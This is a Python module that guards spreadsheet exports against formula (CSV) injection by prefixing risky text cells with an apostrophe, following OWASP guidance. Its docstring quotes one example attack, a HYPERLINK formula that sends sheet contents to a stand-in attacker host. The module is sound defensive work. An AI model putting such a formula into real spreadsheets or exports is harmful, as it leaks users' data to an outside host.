"""Tables bound for spreadsheets, made safe to open: no cell can run as a formula.

A rater chooses their own name and a lead's prompts may come from anywhere, so any text cell of an
export may begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, which Excel, LibreOffice
and Google Sheets read as the start of a formula (``=HYPERLINK("http://evil.example/?"&A1,"x")``
sends the sheet's contents away when clicked). Following OWASP's guidance on CSV injection, such
cells get a leading apostrophe, which spreadsheets show as text and do not display. Numeric
columns are left alone, so a negative number stays a number; a text cell that is a plain number
("-3", "+1.5") is left alone too, as a spreadsheet reads it as that number and nothing else.
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "neutralise_formulas"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def neutralise_cell(value: object) -> object:
    """`value` with a leading apostrophe if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells cannot run as spreadsheet formulas (see the module doc).

    Args:
        frame: any table; only columns of object or string dtype are changed (numbers, booleans
            and timestamps are written by pandas as such and cannot start a formula).
    """
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(neutralise_cell, na_action="ignore").astype(series.dtype)
    return out
